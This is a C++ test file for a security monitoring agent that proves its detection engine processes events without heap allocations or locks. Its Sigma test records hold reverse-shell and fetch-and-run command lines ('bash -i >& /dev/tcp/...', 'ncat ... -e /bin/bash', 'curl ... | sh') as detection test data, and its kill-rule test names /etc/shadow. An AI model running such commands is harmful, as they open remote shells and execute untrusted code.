// SPDX-License-Identifier: GPL-2.0-or-later
// Zero heap allocations and no lock per event, proved: more than a million
// records of every kind through the real engine (decode, process table,
// default rules, the correlation rules' tables included, alert and event
// formatting, batched writes to /dev/null),
// counting every operator new, (outside sanitizer builds) every
// malloc/calloc/realloc, and every pthread mutex or rwlock taken, by our
// code or a library's (std::mutex and std::shared_mutex are these); and the
// agent's whole path, from its two rings through the merged drain
// (loader/ring_merge.h) into the engine.
#include <doctest/doctest.h>

#include <dlfcn.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <atomic>
#include <cstdlib>
#include <mutex>
#include <new>
#include <shared_mutex>

#include "cli/agent_rings.h"
#include "engine/pipeline.h"
#include "loader/ring_merge.h"
#include "rules/rules_file.h"
#include "sigma/with_rules.h"
#include "sigma/sigma_rules.h"
#include "synthetic/record_builders.h"
#include "test/support/fake_ring.h"
#include "synthetic/record_mix.h"

namespace {

std::atomic<bool> g_counting{false};
std::atomic<uint64_t> g_allocations{0};
std::atomic<uint64_t> g_locks{0};

void note_allocation()
{
	if (g_counting.load(std::memory_order_relaxed))
		g_allocations.fetch_add(1, std::memory_order_relaxed);
}

// The next definition of a libc function: the one this file stands in front of.
template <typename F> F next_definition(const char *name)
{
	return reinterpret_cast<F>(dlsym(RTLD_NEXT, name));
}

template <typename F, typename... Args> int counted_lock(const char *name, Args... args)
{
	static F next = next_definition<F>(name);
	if (g_counting.load(std::memory_order_relaxed))
		g_locks.fetch_add(1, std::memory_order_relaxed);
	return next(args...);
}

} // namespace

// Every lock a program or library takes through pthreads, counted.
extern "C" {
int pthread_mutex_lock(pthread_mutex_t *m)
{
	return counted_lock<int (*)(pthread_mutex_t *)>("pthread_mutex_lock", m);
}
int pthread_mutex_trylock(pthread_mutex_t *m)
{
	return counted_lock<int (*)(pthread_mutex_t *)>("pthread_mutex_trylock", m);
}
int pthread_rwlock_rdlock(pthread_rwlock_t *l)
{
	return counted_lock<int (*)(pthread_rwlock_t *)>("pthread_rwlock_rdlock", l);
}
int pthread_rwlock_wrlock(pthread_rwlock_t *l)
{
	return counted_lock<int (*)(pthread_rwlock_t *)>("pthread_rwlock_wrlock", l);
}
int pthread_rwlock_tryrdlock(pthread_rwlock_t *l)
{
	return counted_lock<int (*)(pthread_rwlock_t *)>("pthread_rwlock_tryrdlock", l);
}
int pthread_rwlock_trywrlock(pthread_rwlock_t *l)
{
	return counted_lock<int (*)(pthread_rwlock_t *)>("pthread_rwlock_trywrlock", l);
}
}

// Every form of operator new funnels through these two.
void *operator new(size_t n)
{
	note_allocation();
	if (void *p = std::malloc(n ? n : 1))
		return p;
	throw std::bad_alloc();
}
void *operator new[](size_t n) { return operator new(n); }
void *operator new(size_t n, const std::nothrow_t &) noexcept
{
	note_allocation();
	return std::malloc(n ? n : 1);
}
void *operator new[](size_t n, const std::nothrow_t &t) noexcept { return operator new(n, t); }
void operator delete(void *p) noexcept { std::free(p); }
void operator delete[](void *p) noexcept { std::free(p); }
void operator delete(void *p, size_t) noexcept { std::free(p); }
void operator delete[](void *p, size_t) noexcept { std::free(p); }

// malloc itself. AddressSanitizer owns malloc in a SAN=1 build, so there
// only operator new is counted; the plain build counts both.
#if !defined(__SANITIZE_ADDRESS__)
extern "C" {
void *__libc_malloc(size_t);
void *__libc_calloc(size_t, size_t);
void *__libc_realloc(void *, size_t);
void __libc_free(void *);

void *malloc(size_t n)
{
	note_allocation();
	return __libc_malloc(n);
}
void *calloc(size_t n, size_t size)
{
	note_allocation();
	return __libc_calloc(n, size);
}
void *realloc(void *p, size_t n)
{
	note_allocation();
	return __libc_realloc(p, n);
}
void free(void *p) { __libc_free(p); }
}
#endif

using namespace guard;

namespace {

// The engine with the default rules, writing to /dev/null.
struct EngineToDevNull {
	int devnull = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
	BatchWriter out{devnull, 1 << 20};
	synthetic::FakeCgroupPaths cgroup_paths;
	Pipeline pipeline{out, 1'700'000'000'000'000'000, {false, 4096, &cgroup_paths}};
	EngineToDevNull() { pipeline.set_rules(rules::load_default_rules().set); }
	~EngineToDevNull() { ::close(devnull); }
};

} // namespace

TEST_CASE("zero heap allocations per event: 1M+ records of every kind through the engine with the default rules")
{
	EngineToDevNull engine;
	REQUIRE(engine.devnull >= 0);
	BatchWriter &out = engine.out;
	Pipeline &pipeline = engine.pipeline;
	auto pool = synthetic::record_mix();

	// Warm-up: one pass over the mix (nothing should allocate even here,
	// but the promise is "after warm-up").
	for (auto &r : pool)
		pipeline.on_record(r);
	out.flush();

	constexpr size_t kRecords = 1'050'000;
	g_allocations = 0;
	g_locks = 0;
	g_counting = true;
	for (size_t i = 0; i < kRecords; i++) {
		auto &r = pool[i % pool.size()];
		// A new set of pids every round of the mix: the process table (4096
		// entries) fills and evicts all along.
		size_t round = i / pool.size();
		synthetic::set_pid(r, 10000 + static_cast<uint32_t>(round) % 60000);
		// A new cgroup every round, a container's every other: each is
		// resolved once, and the cgroup cache fills and starts over.
		synthetic::set_cgroup(r, (round % 2 ? synthetic::container_cgroup_base : 2) + round % 3000);
		pipeline.on_record(r);
	}
	out.flush();
	g_counting = false;
	uint64_t allocations = g_allocations.load();

	const PipelineStats &s = pipeline.stats();
	CHECK(s.records == kRecords + pool.size());
	for (uint16_t k = 1; k < GUARD_RECORD_KIND_MAX; k++) {
		CAPTURE(record_kind_name(k));
		CHECK(s.events_by_kind[k] > 0);
	}
	uint64_t decode_errors = 0;
	for (uint64_t n : s.decode_errors)
		decode_errors += n;
	CHECK(decode_errors == 0);
	// Every default rule fired, so matching and alert formatting were on the path.
	size_t rules_fired = 0;
	pipeline.for_each_alert_count([&](std::string_view, uint64_t n) { rules_fired += n > 0; });
	CHECK(rules_fired == pipeline.rules()->rules.size());
	CHECK(pipeline.processes().stats().evictions > 0);
	// The correlation rules (sequence, threshold, dropper) filled their
	// fixed tables and replaced live entries: that path ran too.
	CHECK(pipeline.rules()->correlation_evicted() > 0);
	CHECK(pipeline.cgroups().stats().restarts > 0);
	CHECK(out.bytes_written() > kRecords * 100);
	CHECK(allocations == 0);
	CHECK(g_locks.load() == 0);
}

TEST_CASE("zero heap allocations per event with kill rules: their alerts say killed or would_kill")
{
	EngineToDevNull engine;
	engine.pipeline.set_rules(rules::compile_rules_text(R"({"rules": [
 {"id": "KILL_EXEC", "severity": "high", "events": ["exec"], "action": "kill", "match": {"field": "path", "equals": "/tmp/payload"}},
 {"id": "KILL_OPEN", "severity": "high", "events": ["file_open"], "action": "kill", "match": {"field": "path", "in": ["/etc/shadow"]}},
 {"id": "KILL_NET", "severity": "high", "events": ["net_connect"], "action": "kill", "match": {"field": "addr", "cidr": "203.0.113.0/24"}}
]})",
							    "kill.json")
					  .set);
	auto pool = synthetic::record_mix();
	for (auto &r : pool)
		engine.pipeline.on_record(r);
	engine.out.flush();
	g_allocations = 0;
	g_locks = 0;
	g_counting = true;
	for (size_t i = 0; i < 100'000; i++) {
		auto &r = pool[i % pool.size()];
		// Half the passes as the kernel flags a record it killed for.
		auto *h = reinterpret_cast<struct guard_header *>(r.data());
		h->flags = static_cast<uint16_t>((i / pool.size()) % 2 ? h->flags | GUARD_KILLED : h->flags & ~GUARD_KILLED);
		engine.pipeline.on_record(r);
	}
	engine.out.flush();
	g_counting = false;
	size_t rules_fired = 0;
	engine.pipeline.for_each_alert_count([&](std::string_view, uint64_t n) { rules_fired += n > 0; });
	CHECK(rules_fired == 3);
	CHECK(g_allocations.load() == 0);
	CHECK(g_locks.load() == 0);
}

// This process's own executable as an exec record gives it.
std::vector<uint8_t> exec_of_self(const synthetic::Task &t)
{
	struct stat st;
	REQUIRE(::stat("/proc/self/exe", &st) == 0);
	uint32_t kernel_dev = major(st.st_dev) << 20 | minor(st.st_dev);
	uint64_t ctime_ns = uint64_t(st.st_ctim.tv_sec) * 1000000000u + uint64_t(st.st_ctim.tv_nsec);
	return synthetic::with_exe_identity(synthetic::exec_record(t, "/proc/self/exe"), kernel_dev, st.st_ino, ctime_ns);
}

TEST_CASE("zero heap allocations per event with executables hashed: lookups, queued misses, results between batches")
{
	int devnull = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
	REQUIRE(devnull >= 0);
	BatchWriter out{devnull, 1 << 20};
	Pipeline pipeline{out, 1'700'000'000'000'000'000, {false, 4096, nullptr, true}};
	pipeline.set_rules(rules::compile_rules_text(R"({"rules": [
 {"id": "BY_HASH", "severity": "high", "events": ["exec", "net_connect"],
  "match": {"field": "exe_sha256", "in": {"sha256_of": ["/proc/self/exe"]}}}]})",
						     "hash.json")
				   .set);
	synthetic::Task self{static_cast<uint32_t>(::getpid()), 1, "alloc_test", 1000};
	synthetic::Task other{40000, 1, "other", 1000};
	std::vector<uint8_t> self_exec = exec_of_self(self);
	std::vector<uint8_t> self_connect =
		synthetic::net_record(self, GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(198, 51, 100, 7), 443);
	std::vector<uint8_t> other_exec = synthetic::exec_record(other, "/nonexistent/other");
	// Warm-up: the hasher's thread starts at the first exchange, and this
	// process's file is hashed (the only identity it can verify here).
	pipeline.on_record(self_exec);
	for (int i = 0; i < 2000 && pipeline.exe_hashes().stats().hashed == 0; i++) {
		pipeline.exe_hashes().exchange();
		::usleep(5000);
	}
	REQUIRE(pipeline.exe_hashes().stats().hashed == 1);

	// A pipeline whose hasher never starts (no exchange): its queue fills
	// for certain, however fast the other's thread drains.
	BatchWriter cold_out{devnull, 1 << 20};
	Pipeline cold{cold_out, 1'700'000'000'000'000'000, {false, 4096, nullptr, true}};

	g_allocations = 0;
	g_locks = 0;
	g_counting = true;
	for (uint64_t i = 0; i < 200'000; i++) {
		pipeline.on_record(self_exec);
		pipeline.on_record(self_connect);
		// 512 files that cannot be hashed: misses, queued while the queue
		// has room (and counted when it has none), then known as unknown.
		synthetic::with_exe_identity_in_place(other_exec, 0x800001, 1000 + i % 512, 1'700'000'000'000'000'000 + i % 512);
		pipeline.on_record(other_exec);
		if (i < 1024)
			cold.on_record(other_exec);
		if (i % 1000 == 0) {
			out.flush();
			pipeline.exe_hashes().exchange();
		}
	}
	out.flush();
	g_counting = false;
	const ExeHashStats &s = pipeline.exe_hashes().stats();
	CHECK(s.requested >= 512);
	CHECK(s.unknown > 0);
	CHECK(cold.exe_hashes().stats().queue_full > 0);
	// This process's exec and connect matched by hash (all of them, unless
	// its entry was evicted by the others' and hashed again meanwhile).
	size_t alerts = 0;
	pipeline.for_each_alert_count([&](std::string_view, uint64_t n) { alerts += n; });
	CHECK(alerts > 0);
	CHECK(g_allocations.load() == 0);
	CHECK(g_locks.load() == 0);
	::close(devnull);
}

TEST_CASE("zero heap allocations from the two rings into the engine: the agent's merged drain")
{
	EngineToDevNull engine;
	REQUIRE(engine.devnull >= 0);
	// The mix as bytes the fake producer copies in, each ring its kinds.
	std::vector<std::pair<uint32_t, std::string>> mix;
	for (auto &r : synthetic::record_mix())
		mix.emplace_back(guard_ring_of(reinterpret_cast<const guard_header *>(r.data())->kind),
				 std::string(r.begin(), r.end()));
	test::FakeRing proc_net(1 << 16), file(1 << 16);
	RingView rings[GUARD_RING_COUNT] = {proc_net.view(), file.view()};
	auto on_record = [&](std::span<const uint8_t> r) { engine.pipeline.on_record(r); };

	constexpr size_t kRounds = 3000;
	uint64_t allocations = 0, locks = 0;
	size_t drained = 0;
	for (size_t round = 0; round < kRounds; round++) {
		for (auto &[ring, bytes] : mix) // the producer's side allocates; it is not measured
			(ring == GUARD_RING_FILE ? file : proc_net).push(bytes);
		g_allocations = 0;
		g_locks = 0;
		g_counting = round > 0; // after one warm-up round
		drained += drain_merged(rings[GUARD_RING_PROC_NET], rings[GUARD_RING_FILE], record_boot_ns, on_record,
					AgentRings::kBatchRecords);
		engine.out.flush();
		g_counting = false;
		allocations += g_allocations.load();
		locks += g_locks.load();
	}
	CHECK(drained == kRounds * mix.size());
	CHECK(engine.pipeline.stats().records == drained);
	CHECK(allocations == 0);
	CHECK(locks == 0);
}

// Records the Sigma test corpus (test/fixtures/sigma) matches: every
// string test form, a regex on the joined command line, a parent's command
// line, a user name, addresses, files.
std::vector<std::vector<uint8_t>> sigma_records()
{
	synthetic::Task parent{20, 1, "sshd", 1'000'000'000}, child{21, 20, "sh", 1'000'000'000};
	return {
		synthetic::exec_record(parent, "/usr/sbin/sshd", {"sshd: alice [priv]"}),
		synthetic::exec_record(child, "/bin/sh", {"sh", "-c", "curl http://x | sh"}, 0, 0, "/tmp/w"),
		synthetic::exec_record(child, "/bin/bash", {"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"}),
		synthetic::exec_record(child, "/usr/bin/ncat", {"ncat", "192.0.2.1", "-e", "/bin/bash"}),
		synthetic::exec_record(child, "/usr/bin/certutil", {"certutil", "/decode", "a"}),
		synthetic::exec_record(child, "/bin/echo", {"echo", "YmFzaCAtaQ=="}),
		synthetic::exec_record(child, "/bin/foo", {"/bin/foo"}),
		synthetic::exec_record(child, "/usr/bin/python3", {"python3", "-c", "print('*star?')"}),
		synthetic::net_record(child, GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(203, 0, 113, 5), 4444),
		synthetic::net_record(child, GUARD_RECORD_NET_ACCEPT, AF_INET, synthetic::ipv4(203, 0, 113, 9), 55000),
		synthetic::file_record(child, GUARD_RECORD_FILE_RENAME, "/tmp/a", "/usr/local/bin/a", 0),
	};
}

TEST_CASE("zero heap allocations per event with Sigma rules: the test corpus beside the default rules")
{
	if (!sigma::available())
		return; // built without Sigma (make SIGMA=0)
	int devnull = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
	REQUIRE(devnull >= 0);
	BatchWriter out{devnull, 1 << 20};
	synthetic::FakeCgroupPaths cgroup_paths;
	Pipeline pipeline{out, 1'700'000'000'000'000'000, {false, 4096, &cgroup_paths}};
	rules::LoadedRules loaded = rules::load_default_rules();
	sigma::Report report =
		sigma::add_sigma_paths(loaded, {std::string(GUARD_SOURCE_DIR) + "/test/fixtures/sigma"}, {});
	REQUIRE(report.loaded > 20);
	pipeline.set_rules(std::move(loaded.set));
	auto pool = synthetic::record_mix();
	for (auto &r : sigma_records())
		pool.push_back(r);

	// No warm-up: Hyperscan's scratch space is made when the rule loads.
	constexpr size_t kRecords = 300'000;
	g_allocations = 0;
	g_locks = 0;
	g_counting = true;
	for (size_t i = 0; i < kRecords; i++)
		pipeline.on_record(pool[i % pool.size()]);
	out.flush();
	g_counting = false;
	uint64_t allocations = g_allocations.load();
	::close(devnull);

	size_t sigma_rules_fired = 0;
	uint64_t regex_alerts = 0;
	pipeline.for_each_alert_count([&](std::string_view id, uint64_t n) {
		sigma_rules_fired += n > 0 && id.starts_with("T ");
		if (id == "T re")
			regex_alerts = n; // regular expressions were on the path
	});
	CHECK(sigma_rules_fired >= 10);
	CHECK(regex_alerts > 0);
	CHECK(allocations == 0);
	CHECK(g_locks.load() == 0);
}

TEST_CASE("the lock counter sees std::mutex and std::shared_mutex")
{
	std::mutex m;
	std::shared_mutex sm;
	g_locks = 0;
	g_counting = true;
	{
		std::lock_guard hold(m);
	}
	{
		std::shared_lock read(sm);
	}
	g_counting = false;
	CHECK(g_locks.load() == 2);
}

TEST_CASE("the allocation counter sees operator new and malloc")
{
	static std::vector<std::string> sink;
	g_allocations = 0;
	g_counting = true;
	sink.emplace_back(200, 'x');
	void *volatile p = std::malloc(64);
	g_counting = false;
	std::free(p);
#if defined(__SANITIZE_ADDRESS__)
	CHECK(g_allocations.load() >= 1);
#else
	CHECK(g_allocations.load() >= 2);
#endif
	sink.clear();
}
